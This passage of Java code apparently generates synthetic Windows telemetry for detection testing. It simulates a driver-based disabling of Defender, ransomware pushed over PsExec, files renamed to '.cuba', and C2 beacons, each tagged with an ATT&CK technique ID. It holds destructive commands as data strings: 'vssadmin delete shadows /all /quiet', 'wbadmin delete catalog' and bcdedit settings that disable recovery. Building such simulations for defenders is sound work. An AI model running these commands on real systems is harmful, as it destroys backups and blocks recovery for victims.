    add(t - 30 * SEC, h, "defense-evasion-byovd", "T1105", ev -> ev.fileCreate(h, t - 30 * SEC, "System", "SYSTEM",
        "NT AUTHORITY\\SYSTEM", 4, r.nextLong(), KILLER, null));
    add(t, h, "defense-evasion-byovd", "T1562.001", ev -> ev.processCreate(h, t, proc(KILLER, KILLER + " -d "
        + DRIVER, "C:\\Windows\\PSEXESVC.exe", "C:\\Windows\\PSEXESVC.exe", "-", "-", KILLER_HASHES),
        "NT AUTHORITY\\SYSTEM", "SYSTEM", null, pid, g, parentPid, parent, "System", "0x3e7"), R_PSEXEC, B_STAGING);
    add(t + 2 * SEC, h, "defense-evasion-byovd", "T1068", ev -> ev.fileCreate(h, t + 2 * SEC, KILLER, "SYSTEM",
        "NT AUTHORITY\\SYSTEM", pid, g, DRIVER, null));
    add(t + 3 * SEC, h, "defense-evasion-byovd", "T1543.003", ev -> ev.serviceInstalled(h, t + 3 * SEC, "ApcHelper",
        "\\??\\" + DRIVER, "kernel mode driver", "demand start", "", "S-1-5-18"), R_SVC_TEMP, B_SERVICE);
    add(t + 3 * SEC + 50, h, "defense-evasion-byovd", "T1543.003", ev -> ev.serviceInstallAudit(h, t + 3 * SEC + 50,
        h.name + "$", "S-1-5-18", 0x3e7, "ApcHelper", "\\??\\" + DRIVER, "0x1"));
    add(t + 4 * SEC, h, "defense-evasion-byovd", "T1068", ev -> ev.driverLoad(h, t + 4 * SEC, DRIVER, DRIVER_HASHES,
        true, "Microsoft Windows Hardware Compatibility Publisher", "Valid"), R_BYOVD);
    add(t + 6 * SEC, h, "defense-evasion-byovd", "T1562.001", ev -> ev.serviceState(h, t + 6 * SEC,
        "Microsoft Defender Antivirus Service", "stopped", "570069006E0044006500660065006E0064002F0031000000"));
  }

  /** PsExec to {@code target}, the encryptor, recovery inhibition and encrypted files. */
  private void ransomware(long t, Host src, Host target, User admin) {
    long[] svc = psexec(t, src, target, admin, 5124, r.nextLong(), "C:\\Windows\\system32\\cmd.exe");
    long te = t + 6 * SEC;
    long g = r.nextLong();
    int pid = pid();
    String cmd = ENCRYPTOR + " -nt local network";
    add(te - SEC, target, "ransomware-deployment", "T1570", ev -> ev.fileCreate(target, te - SEC, "System", "SYSTEM",
        "NT AUTHORITY\\SYSTEM", 4, r.nextLong(), ENCRYPTOR, null));
    add(te, target, "ransomware-deployment", "T1486", ev -> ev.processCreate(target, te, proc(ENCRYPTOR, cmd,
        "C:\\Windows\\PSEXESVC.exe", "C:\\Windows\\PSEXESVC.exe", "-", "-", ENCRYPTOR_HASHES), "NT AUTHORITY\\SYSTEM",
        "SYSTEM", null, pid, g, (int) svc[0], svc[1], "System", "0x3e7"), R_PSEXEC, B_STAGING);
    String[][] inhibit = {
        {Software.SYS32 + "vssadmin.exe", "vssadmin.exe delete shadows /all /quiet", "VSSADMIN.EXE"},
        {Software.SYS32 + "wbadmin.exe", "wbadmin.exe delete catalog -quiet", "WBADMIN.EXE"},
        {Software.SYS32 + "bcdedit.exe", "bcdedit.exe /set {default} recoveryenabled no", "bcdedit.exe"},
        {Software.SYS32 + "bcdedit.exe", "bcdedit.exe /set {default} bootstatuspolicy ignoreallfailures", "bcdedit.exe"},
    };
    for (int i = 0; i < inhibit.length; i++) {
      String[] c = inhibit[i];
      long ti = te + (2 + i) * SEC;
      String parentCmd = "C:\\Windows\\system32\\cmd.exe /c " + c[1];
      add(ti, target, "inhibit-recovery", "T1490", ev -> ev.processCreate(target, ti, proc(c[0], c[1],
          Software.SYS32 + "cmd.exe", parentCmd, "Windows utility", c[2], Software.hashes(c[0])),
          "NT AUTHORITY\\SYSTEM", "SYSTEM", null, pid(), r.nextLong(), pid(), r.nextLong(), "System", "0x3e7"),
          R_RECOVERY);
      add(ti + 500, target, "inhibit-recovery", "T1490", ev -> ev.processCreate4688(target, ti + 500,
          target.name + "$", "S-1-5-18", 0x3e7, pid(), c[0], c[1], Software.SYS32 + "cmd.exe", "SYSTEM",
          null, "S-1-16-16384"));
    }
    String home = target.user == null ? "D:\\Shares\\Finansije\\" : "C:\\Users\\" + target.user.sam() + "\\Documents\\";
    int files = 12 + r.nextInt(10);
    for (int i = 0; i < files; i++) {
      long ti = te + 10 * SEC + i * 700_000L;
      String name = home + Software.DOCUMENTS[r.nextInt(Software.DOCUMENTS.length)] + "_" + (i + 1)
          + (i % 3 == 0 ? ".xlsx" : ".docx") + ".cuba";
      add(ti, target, "ransomware-encryption", "T1486", ev -> ev.fileCreate(target, ti, ENCRYPTOR, "SYSTEM",
          "NT AUTHORITY\\SYSTEM", pid, g, name, null), R_RANSOM);
      if (i == 0 || i == files - 1) {
        String note = home + NOTE;
        long tn = ti + 200;
        add(tn, target, "ransomware-encryption", "T1486", ev -> ev.fileCreate(target, tn, ENCRYPTOR, "SYSTEM",
            "NT AUTHORITY\\SYSTEM", pid, g, note, null), R_RANSOM);
      }
    }
  }

  private void beacons(Host p, String u, String acct, int pid, long guid, long from, long to) {
    int n = 0;
    for (long t = from; t < to; t += (long) ((4 * MIN + r.nextLong(2 * MIN)) * Math.max(scale, 0.25))) {
      long tb = t;
      if (n++ % 3 == 0) {
        add(tb - SEC, p, "c2-beacon", "T1071.001", ev -> ev.dns(p, tb - SEC, Software.SYS32 + "rundll32.exe", u, acct,
            pid, guid, C2_HOST, C2_IP), R_C2_DNS);
      }
      add(tb, p, "c2-beacon", "T1071.001", ev -> ev.network(p, tb, Software.SYS32 + "rundll32.exe", u, acct, pid, guid,
          p.ip, 49_152 + r.nextInt(16_000), C2_IP, C2_HOST, 443, "https"), R_C2_NET);
    }
  }

  private static Proc proc(String image, String cmd, String parent, String parentCmd, String description,
      String original, String hashes) {
    boolean ms = !hashes.equals(LOADER_HASHES) && original.length() > 1 && !original.startsWith("mimikatz");
    return new Proc(image, cmd, parent, parentCmd, false, description,
        ms ? "Microsoft® Windows® Operating System" : "-", ms ? "Microsoft Corporation" : "-", original, hashes);
  }

  private int pid() {
    return 1000 + 4 * r.nextInt(5000);
  }
}
